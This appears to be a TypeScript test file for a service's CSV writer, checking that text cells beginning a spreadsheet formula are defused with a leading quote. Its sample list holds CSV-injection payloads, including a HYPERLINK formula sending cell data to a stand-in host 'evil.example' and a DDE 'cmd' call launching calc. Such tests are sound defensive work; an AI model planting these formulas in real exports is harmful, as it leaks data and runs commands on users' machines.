/**
 * CSV injection (OWASP, "CSV Injection"): a text cell starting with =, +, -, @, a tab or a carriage return is run as a
 * formula by spreadsheets, so every CSV the service writes puts a ' in front of it. Figures given as numbers stay
 * numbers, negative ones included.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../domain/sen2/csv.js';
import { neutraliseFormula, toCsv } from './csv.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1',
  '\r=1',
];

describe('toCsv', () => {
  it('writes every text cell that starts a formula (OWASP: = + - @ tab CR) with a leading quote', () => {
    const table: string[][] = parse(toCsv([HOSTILE]), { record_delimiter: '\n' });
    const [row] = table;
    expect(row).toEqual(HOSTILE.map((h) => `'${h}`));
  });

  it('leaves numbers as numbers (a difference of -3 stays -3) and ordinary text alone', () => {
    expect(toCsv([[-3, 2.5, null, 'Plans issued', 'a-b', '3 = 3']])).toBe('-3,2.5,,Plans issued,a-b,3 = 3\n');
    // The same characters as text are neutralised: the type, not the look, says which is a figure.
    expect(toCsv([['-3']])).toBe("'-3\n");
  });

  it('neutralises header cells too, and keeps the BOM and CRLF when asked', () => {
    expect(toCsv([['=x'], ['y']], { bom: true, lineEnding: 'windows' })).toBe("\ufeff'=x\r\ny\r\n");
    expect(neutraliseFormula('plain')).toBe('plain');
  });
});

describe('every CSV the service writes', () => {
  it('the SEN2 CSV template: only its fixed column names, none of which can start a formula', () => {
    const csv = toCsv([CSV_COLUMNS.map(([c]) => c)], { lineEnding: 'windows' });
    expect(csv).toBe(`${CSV_COLUMNS.map(([c]) => c).join(',')}\r\n`);
  });
});
